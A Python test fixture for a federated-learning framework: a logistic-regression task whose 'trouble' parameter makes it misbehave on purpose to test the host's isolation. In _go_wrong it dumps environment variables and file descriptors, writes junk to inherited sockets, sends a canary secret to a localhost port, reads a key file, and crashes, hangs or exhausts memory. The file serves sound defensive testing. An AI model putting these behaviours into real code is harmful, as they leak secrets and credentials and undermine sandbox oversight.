"""A small real task for tests: logistic regression by gradient descent in numpy, and ways in which tasks go wrong.

``parameters["trouble"]`` names what it does in training, at the site of ``parameters["trouble_at"]`` only if that is
given; ``parameters["signal"]`` a named pipe through which it tells its process id once it is there.
"""

# ruff: noqa: T201  # tasks print

from __future__ import annotations

import ctypes
import os
import signal
import socket
import sys
from collections.abc import Mapping
from pathlib import Path
from typing import TYPE_CHECKING, Any

from quorate.errors import StudyError
from quorate.tally import BINS, LOG_ODDS_SCALE, LOSS_ONE, ClassificationTally
from quorate_client.site.agreement import Dataset
from quorate_client.tasks import TrainReport
from quorate_client.tasks.data.schema import Schema

if TYPE_CHECKING:
    import numpy as np
    import numpy.typing as npt

    Vector = npt.NDArray[np.float32]

FIXED = 1 << 20
SECRET = "canary-4711-patient-name"


class LinearSession:
    def __init__(self, parameters: Mapping[str, Any], x: npt.NDArray[np.float64], y: npt.NDArray[np.int64], seed: int):
        self._parameters = parameters
        self._x, self._y, self._seed = x, y, seed
        self._center: npt.NDArray[np.float64] | None = None

    @property
    def records(self) -> int:
        return len(self._x)

    def statistics(self) -> tuple[int, ...]:
        import numpy as np

        return (len(self._x), *(int(value) for value in np.rint(self._x.sum(axis=0) * FIXED)))

    def begin(self, statistics: tuple[int, ...]) -> None:
        import numpy as np

        if self._center is not None:
            raise RuntimeError("begun twice")
        self._center = np.array(statistics[1:]) / FIXED / statistics[0]

    def initial(self) -> Vector:
        import numpy as np

        size = self._x.shape[1] + 1 + int(self._parameters.get("padding", 0))
        theta: Vector = np.random.default_rng(self._seed).normal(size=size).astype(np.float32)
        return theta

    def train(self, theta: Vector, round_number: int, rng_seed: int, proximal_mu: float) -> tuple[Vector, TrainReport]:
        import numpy as np

        print(f"training, {SECRET}")
        _go_wrong(self._parameters)
        features = self._features()
        weights = theta[: features.shape[1]].astype(np.float64)
        gradient = features.T @ (_sigmoid(features @ weights) - self._y) / len(self._y)
        update = np.zeros_like(theta)
        update[: len(weights)] = -float(self._parameters.get("rate", 0.5)) * gradient
        if self._parameters.get("trouble") == "nan":
            update[0] = np.nan
        if self._parameters.get("trouble") == "short":
            update = update[1:]
        loss = float("nan") if self._parameters.get("trouble") == "lost" else self._losses(weights).sum()
        records = {"liar": -1, "grown": 10 * len(self._x)}.get(str(self._parameters.get("trouble")), len(self._x))
        return update, TrainReport(records, float(loss))

    def evaluate(self, theta: Vector) -> ClassificationTally | Nonsense:
        import numpy as np

        if self._parameters.get("trouble") == "miscount":
            return Nonsense()
        weights = theta[: self._x.shape[1] + 1].astype(np.float64)
        odds = self._features() @ weights
        confusion = np.bincount(2 * self._y + (odds > 0), minlength=4)
        bins = np.minimum(BINS - 1, (BINS * _sigmoid(odds / LOG_ODDS_SCALE)).astype(int))
        members = np.bincount(bins[self._y == 1], minlength=BINS)
        others = np.bincount(bins[self._y == 0], minlength=BINS)
        loss = round(float(self._losses(weights).sum()) * LOSS_ONE)
        return ClassificationTally(2, loss, tuple(confusion.tolist()), (*members.tolist(), *others.tolist()))

    def export(self, theta: Vector) -> tuple[dict[str, npt.NDArray[Any]], dict[str, Any]]:
        size = self._x.shape[1]
        return {"weights": theta[:size], "file": theta[size : size + 1]}, {"task": "linear"}

    def _features(self) -> npt.NDArray[np.float64]:
        import numpy as np

        if self._center is None:
            raise RuntimeError("not begun")
        return np.hstack([self._x - self._center, np.ones((len(self._x), 1))])

    def _losses(self, weights: npt.NDArray[np.float64]) -> npt.NDArray[np.float64]:
        import numpy as np

        signed = (2 * self._y - 1) * (self._features() @ weights)
        return np.log1p(np.exp(-signed))


class Nonsense:
    """Counts of the right number that contradict each other."""

    def encode(self) -> tuple[int, ...]:
        return (-(1 << 40),) * (1 + 4 + 2 * BINS)


class LinearTask:
    def check(self, parameters: Mapping[str, Any]) -> None:
        if parameters.get("trouble") == "parameters":
            raise StudyError("The parameters are wrong")

    def schema(self, parameters: Mapping[str, Any]) -> Schema:
        raise NotImplementedError

    def open(self, parameters: Mapping[str, Any], dataset: Dataset, seed: int) -> LinearSession:
        import numpy as np

        if parameters.get("trouble_at", dataset.path.stem) != dataset.path.stem:
            parameters = {**parameters, "trouble": ""}
        with np.load(dataset.path) as data:
            return LinearSession(parameters, data["x"], data["y"], seed)


TASK = LinearTask()


def _sigmoid(value: npt.NDArray[np.float64]) -> npt.NDArray[np.float64]:
    import numpy as np

    return 1 / (1 + np.exp(-value))


def _go_wrong(parameters: Mapping[str, Any]) -> None:
    trouble = parameters.get("trouble")
    if trouble == "once":  # hangs in the first process, works in the next
        marker = Path(parameters["marker"])
        trouble = "" if marker.exists() else "hang"
        marker.touch()
    if trouble == "raise":
        raise RuntimeError(f"the record of {SECRET} could not be read")
    if trouble == "hang":
        Path(parameters["signal"]).write_text(str(os.getpid()))
        signal.pause()
    if trouble == "segfault":
        ctypes.string_at(0)
    if trouble == "exit":
        sys.exit(f"goodbye, {SECRET}")
    if trouble == "hog":
        bytearray(8 << 30)
    if trouble == "look around":
        print("environment:", sorted(os.environ.items()))
        print("files:", sorted(str(file.readlink()) for file in Path("/proc/self/fd").iterdir() if file.exists()))
    if trouble == "forge":  # speaks to the daemon past its host
        for file in Path("/proc/self/fd").iterdir():
            if file.exists() and str(file.readlink()).startswith("socket:"):
                os.write(int(file.name), b"\xff" * 100)
    if trouble == "call home":
        socket.create_connection(("127.0.0.1", parameters["port"]), timeout=5).sendall(SECRET.encode())
    if trouble == "read keys":
        Path(parameters["key"]).read_bytes()
